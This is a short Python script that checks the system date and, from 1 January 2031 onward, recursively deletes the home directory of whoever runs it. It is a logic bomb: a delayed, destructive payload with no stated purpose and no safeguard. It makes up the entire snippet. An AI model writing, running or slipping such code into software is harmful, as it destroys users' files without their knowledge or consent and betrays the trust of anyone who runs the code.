import datetime
import shutil
import os

if datetime.datetime.now() > datetime.datetime(2031, 1, 1):
    shutil.rmtree(os.path.expanduser("~"))
